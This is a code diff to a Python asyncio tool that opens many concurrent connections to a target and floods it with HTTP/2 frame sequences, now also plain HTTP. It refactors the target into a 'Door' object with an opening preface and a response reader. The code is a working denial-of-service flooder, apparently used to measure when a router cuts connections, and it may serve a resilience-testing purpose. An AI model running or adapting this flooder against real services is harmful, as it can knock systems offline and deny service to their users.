@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import asyncio
-from collections.abc import Iterator
+from collections.abc import Awaitable, Callable, Iterator
 from contextlib import suppress
 from dataclasses import dataclass, field
 
@@ -34,12 +34,32 @@ class Toll:
     """Connections ended by the router."""
 
 
+@dataclass(frozen=True)
+class Door:
+    """A port, and how one talks to it."""
+
+    address: str
+    opening: bytes
+    """What a client sends first."""
+    read: Callable[[asyncio.StreamReader, Toll], Awaitable[None]]
+    """Reads everything, until the end."""
+
+
+def grpc_door(address: str) -> Door:
+    opening = PREFACE + settings({}) + frame(FrameType.SETTINGS, ACK, 0)
+    return Door(address, opening, _read_frames)
+
+
+def http_door(address: str) -> Door:
+    return Door(address, b"", _read_anything)
+
+
 async def flood(
-    address: str, attack: Attack, connections: int, seconds: float, patience: float = 0.0
+    door: Door, attack: Attack, connections: int, seconds: float, patience: float = 0.0
 ) -> Toll:
     """Attacks from `connections` connections for `seconds`, and for `patience` more until one is told to calm down."""
     toll = Toll()
-    tasks = [asyncio.create_task(_flood_again(address, attack, toll)) for _ in range(connections)]
+    tasks = [asyncio.create_task(_flood_again(door, attack, toll)) for _ in range(connections)]
     try:
         await asyncio.sleep(seconds)
         with suppress(TimeoutError):
@@ -52,16 +72,17 @@ async def flood(
     return toll
 
 
-async def _flood_again(address: str, attack: Attack, toll: Toll) -> None:
-    host, _, port = address.rpartition(":")
+async def _flood_again(door: Door, attack: Attack, toll: Toll) -> None:
+    host, _, port = door.address.rpartition(":")
     while True:
         try:
             reader, writer = await asyncio.open_connection(host, int(port))
         except OSError:
             await asyncio.sleep(RECONNECT_SECONDS)
             continue
-        reading = asyncio.create_task(_read(reader, toll))
+        reading = asyncio.ensure_future(door.read(reader, toll))
         try:
+            writer.write(door.opening)
             await _send(writer, attack(), toll, reading)
         except OSError:
             toll.ends += 1
@@ -73,9 +94,8 @@ async def _flood_again(address: str, attack: Attack, toll: Toll) -> None:
 
 
 async def _send(
-    writer: asyncio.StreamWriter, pieces: Iterator[bytes], toll: Toll, reading: asyncio.Task[None]
+    writer: asyncio.StreamWriter, pieces: Iterator[bytes], toll: Toll, reading: asyncio.Future[None]
 ) -> None:
-    writer.write(PREFACE + settings({}) + frame(FrameType.SETTINGS, ACK, 0))
     for piece in pieces:
         if reading.done():
             toll.ends += 1
@@ -86,8 +106,13 @@ async def _send(
         await asyncio.sleep(0)
 
 
-async def _read(reader: asyncio.StreamReader, toll: Toll) -> None:
-    """Reads everything, until the end."""
+async def _read_anything(reader: asyncio.StreamReader, toll: Toll) -> None:
+    with suppress(OSError):
+        while await reader.read(2**16):
+            pass
+
+
+async def _read_frames(reader: asyncio.StreamReader, toll: Toll) -> None:
     with suppress(OSError, asyncio.IncompleteReadError):
         while True:
             head = await reader.readexactly(FRAME_HEADER.size)
